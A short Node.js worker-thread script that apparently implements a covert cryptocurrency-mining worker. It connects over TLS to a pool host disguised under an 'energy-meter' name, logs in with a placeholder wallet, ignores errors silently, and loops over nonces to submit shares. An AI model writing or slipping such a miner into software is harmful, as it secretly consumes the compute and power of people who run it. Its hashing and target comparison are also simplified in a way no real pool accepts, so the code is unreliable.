import { createHash } from 'node:crypto';
import { connect } from 'node:tls';
import { createInterface } from 'node:readline';
import { workerData } from 'node:worker_threads';

const account = '0x0000000000000000000000000000000000000000';
const link = connect(3333, 'eu.pool.energy-meter.invalid');
const say = (method, params) => link.write(JSON.stringify({ id: 1, method, params }) + '\n');

link.on('error', () => {});
link.on('secureConnect', () => say('login', { login: account, rigid: `m${workerData.lane}` }));

for await (const row of createInterface({ input: link })) {
  const { blob, target, job_id } = JSON.parse(row).params ?? {};
  if (!blob) continue;
  for (let nonce = workerData.lane * 2 ** 24, end = nonce + 2 ** 24; nonce < end; nonce++) {
    const result = createHash('sha256').update(blob + nonce.toString(16)).digest('hex');
    if (result < target) say('submit', { job_id, nonce, result });
  }
}
